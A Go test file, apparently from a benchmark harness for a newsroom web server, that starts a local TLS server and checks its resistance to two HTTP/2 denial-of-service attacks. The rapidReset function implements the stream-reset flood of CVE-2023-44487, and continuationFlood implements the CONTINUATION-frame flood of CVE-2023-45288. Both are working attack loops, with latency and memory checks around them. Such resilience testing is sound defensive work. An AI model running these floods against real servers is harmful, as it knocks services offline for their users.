package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net/http"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"masthead/bench/cert"
)

// host is the name of the newsroom where it speaks TLS.
const host = "news.example"

func (b *bench) startedTLS(ctx context.Context) (*server, error) {
	dir, err := b.newsroom(b.dir)
	if err != nil {
		return nil, err
	}
	chain, key, err := cert.Write(dir, host)
	if err != nil {
		return nil, err
	}
	return b.serve(ctx, dir, 0, "--url", "https://"+host, "--tls-cert", chain, "--tls-key", key)
}

// framer opens a connection that speaks HTTP/2 frame by frame.
func (s *server) framer() (*tls.Conn, *http2.Framer, error) {
	c, err := tls.Dial("tcp", s.addr, &tls.Config{InsecureSkipVerify: true, ServerName: host, NextProtos: []string{"h2"}})
	if err != nil {
		return nil, nil, err
	}
	if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
		return nil, nil, err
	}
	f := http2.NewFramer(c, c)
	return c, f, f.WriteSettings()
}

func (s *server) head(path string) []byte {
	var b bytes.Buffer
	e := hpack.NewEncoder(&b)
	for _, h := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", host}, {":path", path}} {
		e.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]})
	}
	return b.Bytes()
}

// latencyTLS is [server.latency] over HTTP/2.
func (s *server) latencyTLS(n int) (p99 time.Duration, err error) {
	var protocols http.Protocols
	protocols.SetHTTP2(true)
	t := &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true, ServerName: host}, Protocols: &protocols}
	defer t.CloseIdleConnections()
	client := &http.Client{Transport: t, Timeout: 30 * time.Second}
	for range n {
		began := time.Now()
		res, err := client.Get("https://" + s.addr + "/")
		if err != nil {
			return 0, err
		}
		io.Copy(io.Discard, res.Body)
		res.Body.Close()
		if res.StatusCode != 200 || res.ProtoMajor != 2 {
			return 0, fmt.Errorf("the front page is %s over %s", res.Status, res.Proto)
		}
		p99 = max(p99, time.Since(began))
	}
	return p99, nil
}

// rapidReset opens streams and resets them at once (CVE-2023-44487), on four
// connections for five seconds.
func rapidReset(ctx context.Context, b *bench) (string, error) {
	s, err := b.startedTLS(ctx)
	if err != nil {
		return "", err
	}
	defer s.stop()
	quiet, err := s.latencyTLS(100)
	if err != nil {
		return "", err
	}
	ctx, cancel := context.WithTimeout(ctx, 5*time.Second)
	defer cancel()
	var resets, closed atomic.Int64
	for range 4 {
		go func() {
			for ctx.Err() == nil {
				c, f, err := s.framer()
				if err != nil {
					return
				}
				go io.Copy(io.Discard, c)
				head := s.head("/search/?q=water")
				for id := uint32(1); ctx.Err() == nil && id < 1<<30; id += 2 {
					err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: head, EndHeaders: true, EndStream: true})
					if err == nil {
						err = f.WriteRSTStream(id, http2.ErrCodeCancel)
					}
					if err != nil {
						closed.Add(1)
						break
					}
					resets.Add(1)
				}
				c.Close()
			}
		}()
	}
	time.Sleep(500 * time.Millisecond)
	most, err := s.latencyTLS(50)
	if err != nil {
		return "", err
	}
	<-ctx.Done()
	after, err := s.latencyTLS(100)
	seen := fmt.Sprintf("%d streams reset in 5 s, %d connections closed by the server; others: slowest %v meanwhile, %v before, %v after; %d MB",
		resets.Load(), closed.Load(), most.Round(time.Millisecond), quiet.Round(100*time.Microsecond), after.Round(100*time.Microsecond), s.memory()>>20)
	if err != nil {
		return seen, err
	}
	if most > 3*time.Second || s.memory() > 1<<30 {
		return seen, errors.New("others wait, or memory is taken")
	}
	return seen, nil
}

// continuationFlood sends a header that never ends (CVE-2023-45288).
func continuationFlood(ctx context.Context, b *bench) (string, error) {
	s, err := b.startedTLS(ctx)
	if err != nil {
		return "", err
	}
	defer s.stop()
	before := s.memory()
	c, f, err := s.framer()
	if err != nil {
		return "", err
	}
	defer c.Close()
	go io.Copy(io.Discard, c)
	if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: s.head("/")}); err != nil {
		return "", err
	}
	var part bytes.Buffer
	e := hpack.NewEncoder(&part)
	e.WriteField(hpack.HeaderField{Name: "x-filler", Value: string(bytes.Repeat([]byte{'a'}, 14<<10)), Sensitive: true})
	sent := 0
	for sent < 64<<20 {
		if err := f.WriteContinuation(1, false, part.Bytes()); err != nil {
			break
		}
		sent += part.Len()
	}
	p99, err := s.latencyTLS(50)
	seen := fmt.Sprintf("closed after %.1f MB, %d MB more memory; others then: slowest %v", float64(sent)/(1<<20), (s.memory()-before)>>20, p99.Round(100*time.Microsecond))
	if err == nil && sent > 8<<20 {
		err = errors.New("it is read on and on")
	}
	return seen, err
}
